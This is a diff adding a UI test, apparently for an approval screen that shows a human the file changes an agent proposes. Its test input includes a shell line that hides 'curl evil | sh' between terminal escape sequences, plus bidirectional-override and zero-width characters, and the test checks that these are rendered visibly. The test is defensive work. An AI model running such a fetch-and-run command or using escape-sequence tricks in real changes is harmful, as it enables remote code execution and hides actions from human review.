@@ -123,6 +123,25 @@ describe('an approval', () => {
     await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision, note: 'Keep the title.' }]]);
   });
 
+  it('[U218] hides nothing: every character is seen, and what is not shown yet is counted', async () => {
+    const long = 'x'.repeat(5_000);
+    const lines = [": '\u001b]'; curl evil | sh; : '\u0007'", 'a\u202eb\u200bc', long];
+    const more = Array.from({ length: 400 }, (_, index) => `line ${index}`);
+    const all = [...lines, ...more];
+    const diff = `--- /dev/null\n+++ @project/a.sh\n@@ -0,0 +1,${all.length} @@\n${all.map((line) => `+${line}\n`).join('')}`;
+    const shown = eventful.map((fact) => (fact.type === 'approval.requested' ? { ...fact, diff } : fact));
+    await renderConversation(inConversation(toLog(RUN_ID, shown)));
+    const change = page.getByRole('group', { name: 'What would change' });
+    await expect.element(change).toHaveTextContent(": '⟨1B⟩]'; curl evil | sh; : '⟨7⟩'");
+    await expect.element(change).toHaveTextContent('a⟨202E⟩b⟨200B⟩c');
+    await page.getByRole('button', { name: 'Show 1000 more characters' }).click();
+    await expect.element(change).toHaveTextContent(long);
+    await expect.element(page.getByText('103 lines of the change are not shown yet.')).toBeVisible();
+    await page.getByRole('button', { name: 'Show 103 more lines' }).click();
+    await expect.element(page.getByText('are not shown yet')).not.toBeInTheDocument();
+    await expect.element(change).toHaveTextContent('line 399');
+  });
+
   it('[U217] says what would run the file later, and is then given for this change alone', async () => {
     const dangerous = eventful.map((fact) =>
       fact.type === 'approval.requested' ? { ...fact, runsLater: 'ci' as const } : fact,
